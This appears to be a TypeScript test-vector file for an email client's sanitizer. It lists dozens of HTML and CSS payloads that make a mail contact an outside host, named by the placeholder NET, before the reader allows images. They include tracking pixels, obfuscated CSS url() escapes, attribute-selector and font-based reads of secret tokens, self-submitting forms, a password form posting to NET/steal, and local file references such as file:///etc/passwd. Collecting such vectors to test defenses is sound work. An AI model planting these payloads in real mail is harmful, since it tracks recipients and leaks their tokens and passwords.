import type { Vector } from "./vector.ts";

/** A page for each letter of a secret: what CSS reads out, it tells by what it fetches. */
const LETTERS = [..."abcdef0123456789"];

/** Everything by which a mail asks somebody outside for something, before the person has asked for its pictures. */
export const FETCHING: readonly Vector[] = [
  ["a picture", '<img src="https://NET/p.gif">'],
  ["a picture in the clear", '<img src="http://NET/p.gif">'],
  ["a picture without a scheme", '<img src="//NET/p.gif"><img src="\\\\NET/q.gif"><img src="/\\NET/r.gif">'],
  [
    "a picture behind strange blanks",
    '<img src="\n\thttps://NET/p"><img src=" \u0001https://NET/q"><img src="ht\ntps://NET/r">',
  ],
  [
    "a picture as small as a dot",
    '<img src="https://NET/t" width=1 height=1 style="display:none" fetchpriority=high loading=eager>',
  ],
  [
    "a picture's set",
    '<img srcset="https://NET/1 1x, https://NET/2 2x"><img src=x srcset="//NET/3 100w" sizes="100vw">',
  ],
  [
    "a picture's sources",
    '<picture><source srcset="https://NET/s" media="all"><source data-srcset="https://NET/d"><img alt=x></picture>',
  ],
  ["a picture's preload", '<link rel=preload as=image imagesrcset="https://NET/p 1x" href="https://NET/q">'],
  [
    "a picture with its reader named",
    '<img src="https://NET/t?reader=1" referrerpolicy=unsafe-url crossorigin=use-credentials attributionsrc="https://NET/a">',
  ],
  [
    "an old picture",
    '<image src="https://NET/i"><input type=image src="https://NET/j"><img lowsrc="https://NET/k" dynsrc="https://NET/l" longdesc="https://NET/m">',
  ],
  [
    "a picture behind an element",
    '<body background="https://NET/b"><table background="https://NET/t"><tr background="//NET/r"><td background="https://NET/d"><th background="https://NET/h">x</table>',
  ],
  ["a film", '<video src="https://NET/v" poster="https://NET/p" autoplay muted preload=auto></video>'],
  ["a sound", '<audio src="https://NET/a" autoplay preload=auto></audio><bgsound src="https://NET/b">'],
  [
    "a film's sources and captions",
    '<video autoplay><source src="https://NET/s"><track default kind=captions src="https://NET/t"></video>',
  ],
  [
    "an object",
    '<object data="https://NET/o" classid="https://NET/c" codebase="https://NET/b" archive="https://NET/a"></object>',
  ],
  ["an embed", '<embed src="https://NET/e" type="image/svg+xml">'],
  ["a frame", '<iframe src="https://NET/f" loading=eager></iframe><frame src="https://NET/g">'],
  ["a style sheet", '<link rel=stylesheet href="https://NET/c">'],
  [
    "style sheets in disguise",
    '<link rel="alternate stylesheet" title=x href="https://NET/a"><LINK REL=StyleSheet HREF=//NET/b><link rel=stylesheet href="data:text/css,@import \'https://NET/c\'">',
  ],
  [
    "what comes before a page",
    '<link rel=prefetch href="https://NET/p"><link rel=prerender href="https://NET/r"><link rel=preload as=script href="https://NET/l"><link rel=modulepreload href="https://NET/m">',
  ],
  [
    "looking up a name ahead",
    '<link rel=dns-prefetch href="//NET"><link rel=preconnect href="https://NET" crossorigin><meta http-equiv=x-dns-prefetch-control content=on><a href="//NET/x">x</a>',
  ],
  [
    "an icon and a manifest",
    '<link rel=icon href="https://NET/i"><link rel=manifest href="https://NET/m"><link rel=apple-touch-icon href="https://NET/a"><link rel=search type="application/opensearchdescription+xml" href="https://NET/s">',
  ],
  [
    "other links of a head",
    '<link rel=import href="https://NET/i"><link rel=pingback href="https://NET/p"><link rel=compression-dictionary href="https://NET/d"><link rel=expect href="#x" blocking=render>',
  ],
  ["a ping", '<a href="https://shop.example/" ping="https://NET/ping">x</a>'],
  [
    "a report",
    '<meta http-equiv="Content-Security-Policy" content="default-src *; report-uri https://NET/r"><meta http-equiv="Report-To" content="{}">',
  ],
  ["a refresh", '<meta http-equiv=refresh content="0;url=https://NET/r">'],
  [
    "a refresh in disguise",
    '<META HTTP-EQUIV="Refresh" CONTENT="0; URL=\'https://NET/r\'"><meta http-equiv="&#114;efresh" content="0,//NET/s">',
  ],
  ["a base", '<base href="https://NET/"><img src="p.gif"><a href="login">x</a><link rel=stylesheet href="c.css">'],
  ["a base in the midst", '<p>x</p><BASE HREF="//NET/" TARGET=_top><img src=a>'],
  ["an import", "<style>@import 'https://NET/i';</style>"],
  [
    "imports in disguise",
    '<style>@IMPORT url(https://NET/a);@\\69mport "https://NET/b";@import/**/"https://NET/c";@import "//NET/d" layer(x) supports(display:flex);</style>',
  ],
  [
    "an import behind other rules",
    "<style>p{color:red}@media all{@import 'https://NET/a';}@charset 'utf-8';@import url('https://NET/b')screen;</style>",
  ],
  ["a font", "<style>@font-face{font-family:f;src:url(https://NET/f.woff2)}p{font-family:f}</style><p>x</p>"],
  [
    "fonts by letter",
    `<style>${LETTERS.map((letter) => `@font-face{font-family:l${letter};src:url(https://NET/${letter});unicode-range:U+${letter.charCodeAt(0).toString(16)}}`).join("")}p{font-family:${LETTERS.map((letter) => `l${letter}`).join(",")}}</style><p>secret 42</p>`,
  ],
  [
    "a secret read out of an attribute",
    `<style>${LETTERS.map((letter) => `a[href*="token=${letter}"]{background:url(https://NET/${letter})}`).join("")}</style><a href="https://shop.example/?token=a1">x</a>`,
  ],
  [
    "a secret read out by what it has",
    `<style>body:has(a[href^="https:"]) p{background-image:url(https://NET/has)}p:first-letter{background:url(https://NET/first)}</style><p>x</p><a href="https://x.example">y</a>`,
  ],
  [
    "a secret read out by a counter and a scroll bar",
    "<style>div{overflow:scroll}div::-webkit-scrollbar{background:url(https://NET/bar)}p::before{content:url(https://NET/before) counter(x)}</style><div><p>x</div>",
  ],
  [
    "what was visited",
    "<style>a:visited{background:url(https://NET/v)}a:link{background:url(https://NET/l)}</style><a href='https://shop.example/'>x</a>",
  ],
  [
    "what was printed, chosen, lightened",
    "<style>@media print{p{background:url(https://NET/p)}}p::selection{background:url(https://NET/s)}@media (prefers-color-scheme:dark){p{background:url(https://NET/d)}}@container (min-width:1px){p{background:url(https://NET/c)}}</style><p>x",
  ],
  [
    "a background",
    '<p style="background:url(https://NET/b)">x</p><p style="background-image:url(\'https://NET/c\')">x</p>',
  ],
  [
    "backgrounds in disguise",
    '<p style="background:\\75 rl(https://NET/a)">x</p><p style="background:ur/**/l(https://NET/b)">x</p><p style="background:URL(//NET/c)">x</p><p style="back\\67round:url(https://NET/d)">x</p>',
  ],
  [
    "a background behind a semicolon in an address",
    '<p style="color:url(;);background:url(https://NET/a)">x</p><p style="font-family:\'a;b\';background:url(https://NET/b)">x</p>',
  ],
  [
    "a background with an escape at the end of a line",
    '<p style="background:u\\\nrl(https://NET/a)">x</p><style>p{background:url(https://NET/\\\nb)}</style>',
  ],
  [
    "a set of backgrounds",
    '<p style="background:image-set(\'https://NET/a\' 1x)">x</p><p style="background:-webkit-image-set(url(https://NET/b) 1x)">x</p><p style="background:image(\'https://NET/c\')">x</p>',
  ],
  [
    "a blend of backgrounds",
    '<p style="background:cross-fade(url(https://NET/a),url(https://NET/b),50%)">x</p><p style="background:-webkit-cross-fade(url(https://NET/c),url(https://NET/d),.5)">x</p>',
  ],
  [
    "an address from a variable",
    '<p style="--u:url(https://NET/a);background:var(--u)">x</p><style>:root{--v:url(https://NET/b)}p{background:var(--v,url(https://NET/c))}</style>',
  ],
  [
    "an address from an attribute",
    '<p data-u="https://NET/a" style="background:src(attr(data-u))">x</p><p style="background:attr(data-u type(<url>))">x</p>',
  ],
  [
    "an address of a property that is declared",
    '<style>@property --x{syntax:"<url>";inherits:true;initial-value:url(https://NET/a)}@namespace url(https://NET/n);p{background:var(--x)}</style><p>x',
  ],
  [
    "lists, cursors, contents",
    '<ul style="list-style:url(https://NET/l)"><li>x</ul><p style="cursor:url(https://NET/c),auto">x</p><p style="content:url(https://NET/k)">x</p><ul style="list-style-image:url(https://NET/m)"><li>x</ul>',
  ],
  [
    "masks, clips, shapes, filters",
    '<p style="mask:url(https://NET/m);-webkit-mask-image:url(https://NET/w);clip-path:url(https://NET/c#x);shape-outside:url(https://NET/s);filter:url(https://NET/f#x);backdrop-filter:url(https://NET/b#x)">x</p>',
  ],
  [
    "borders and reflections",
    '<p style="border-image:url(https://NET/b) 1;border-image-source:url(https://NET/s);-webkit-box-reflect:below 0 url(https://NET/r)">x</p>',
  ],
  [
    "a paint and an offset",
    '<p style="offset-path:url(https://NET/o#x);fill:url(https://NET/f);stroke:url(https://NET/s);marker:url(https://NET/m)">x</p>',
  ],
  [
    "an animation that changes a background",
    "<style>@keyframes k{from{background:url(https://NET/a)}to{background:url(https://NET/b)}}p{animation:k 1s infinite}</style><p>x",
  ],
  [
    "rules in rules",
    "<style>div{color:red;&:hover{background:url(https://NET/h)} p{background:url(https://NET/p)}}@layer x{p{background:url(https://NET/l)}}@scope (div){p{background:url(https://NET/s)}}</style><div><p>x</div>",
  ],
  [
    "a start of a style",
    "<style>@starting-style{p{background:url(https://NET/a)}}@view-transition{navigation:auto}@position-try --x{inset:0}@page{background:url(https://NET/p)}</style><p>x",
  ],
  [
    "a document's rule",
    "<style>@document url(https://NET/x){p{color:red}}@-moz-document url-prefix(''){p{background:url(https://NET/d)}}@supports (background:url(https://NET/s)){p{color:red}}</style><p>x",
  ],
  [
    "a comment that never ends in a style",
    "<style>/* p{color:red} </style><style>*/ @import 'https://NET/c';</style><p>x",
  ],
  [
    "a bracket that never ends in a style",
    "<style>p[x={}*{background:url(https://NET/a)}{}</style><style>p{font-family:'x</style><style>';background:url(https://NET/b)}</style><p>x",
  ],
  [
    "comment marks of HTML in a style",
    "<style><!-- @import 'https://NET/a'; --> p{background:url(https://NET/b)}</style><style>--></style><p>x",
  ],
  [
    "a picture of the mail's own that is not there",
    '<img src="cid:nobody@NET"><p style="background:url(cid:nobody@NET)">x</p><img src="mid:x/y@NET">',
  ],
  [
    "a data address that is no picture",
    '<img src="data:text/html,<img src=https://NET/d>"><img src="data:image/svg+xml;base64,PHN2Zy8+"><p style="background:url(data:image/svg+xml,x)">x</p>',
  ],
  [
    "a picture of this machine",
    '<img src="file:///etc/passwd"><img src="app://pipedesk/icon.svg"><img src="http://127.0.0.1:631/icon.png"><img src="file://NET/share/x"><p style="background:url(file:///etc/hostname)">x</p>',
  ],
  [
    "a form that sends by itself",
    '<form action="https://NET/f" method=post target=_blank><input type=submit autofocus accesskey=x value=x></form>',
  ],
  [
    "a button that sends elsewhere",
    '<form id=f></form><button form=f formaction="https://NET/b" formmethod=get>x</button><input type=image form=f formaction="https://NET/c" src=x>',
  ],
  [
    "a field that a password is filled into",
    '<form action="https://NET/steal"><input name=user autocomplete=username><input type=password name=pw autocomplete=current-password></form>',
  ],
  [
    "a signed exchange and a bundle",
    '<link rel=webbundle href="https://NET/w"><script type=webbundle>{"source":"https://NET/b"}</script><link rel=alternate type="application/signed-exchange" href="https://NET/s">',
  ],
  [
    "a worker and a service",
    '<script>new Worker("https://NET/w")</script><link rel=serviceworker href="https://NET/s"><meta http-equiv=origin-trial content=x>',
  ],
  [
    "a key that is made and a payment",
    '<keygen name=k challenge=x><a href="https://NET/x" rel=payment>x</a><webview src="https://NET/w" allowpopups nodeintegration></webview><browserplugin src="https://NET/b"></browserplugin>',
  ],
];
